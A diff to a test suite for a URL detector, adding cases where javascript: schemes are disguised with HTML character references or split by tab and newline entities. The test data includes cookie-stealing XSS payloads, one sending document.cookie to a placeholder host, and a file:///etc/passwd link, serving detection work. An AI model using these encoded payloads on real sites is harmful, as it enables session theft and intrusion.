@@ -374,6 +374,13 @@ table('adversarial_url', detectUrls, [
   ['[user.github.io/p](https://github.com/user/p)', []],
   ["[Verify](javascript:fetch('//x.example/?c='+document.cookie))", ['url_exfiltration']],
   ['<a href="javascript&#58;alert(1)">Open</a>', ['url_exfiltration']],
+  // The scheme spelled with character references or split by tab and newline references, as a browser decodes it.
+  ['<a href="&#x6A;avascript&#x3A;alert(1)">Open</a>', ['url_exfiltration']],
+  ['<a href="java&Tab;script:alert(1)">Open</a>', ['url_exfiltration']],
+  ['[Win](jav&#10;ascript:alert(document.cookie))', ['url_exfiltration']],
+  ['<a href="&#106;avascript:void(0)">Menu</a>', []],
+  ['<a href="java&#115;cript-tutorial.html">Tutorial</a>', []],
+  ['<a href="&#999999999;avascript:alert(1)">Open</a>', []],
   ['[statement](file:///etc/passwd)', ['url_exfiltration']],
   ['[report](file:///home/dev/p/coverage/index.html)', []],
   ['The CSP forbids javascript: URLs and data:text/html navigation.', []],
